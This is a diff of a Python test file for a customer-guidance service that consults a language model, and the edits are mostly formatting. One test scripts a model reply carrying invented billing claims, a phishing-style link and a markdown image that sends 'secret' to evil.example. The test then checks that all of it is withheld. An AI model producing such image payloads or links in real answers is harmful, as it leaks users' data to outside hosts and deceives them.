@@ -1,4 +1,4 @@
-"""Guidance with a language model over HTTP: what it is sent, what may stay of its answer, and what happens without it."""
+"""Guidance with a language model over HTTP: what it is sent, what stays of its answer, what happens without it."""
 
 import json
 from collections.abc import Iterator
@@ -105,7 +105,8 @@ def test_who_does_not_want_a_model_is_never_sent(client: TestClient, server: Mod
     assert check_of(done, "engine") == {
         "name": "engine",
         "verdict": "flagged",
-        "detail": "This customer does not want a language model to read what they write, so the offline engine answered.",
+        "detail": "This customer does not want a language model to read what they write, "
+        "so the offline engine answered.",
     }
 
 
@@ -153,7 +154,8 @@ def test_what_no_source_carries_is_withheld(client: TestClient, server: ModelSer
     solved(resources, *SYNC, STEPS)
     server.script(says(
         "Your subscription was cancelled by our billing department. We will refund 49.90 EUR by tomorrow. "
-        "See https://evil.example/login for more. ![x](https://evil.example/p.png?d=secret) <b>Cheese</b> helps. ", GOOD,
+        "See https://evil.example/login for more. ![x](https://evil.example/p.png?d=secret) <b>Cheese</b> helps. ",
+        GOOD,
     ))  # fmt: skip
     done = suggest(client, ask(resources, WORDS, "Calendar"))
     for lie in ("subscription", "refund", "49.90", "evil", "secret", "<b>", "Cheese"):
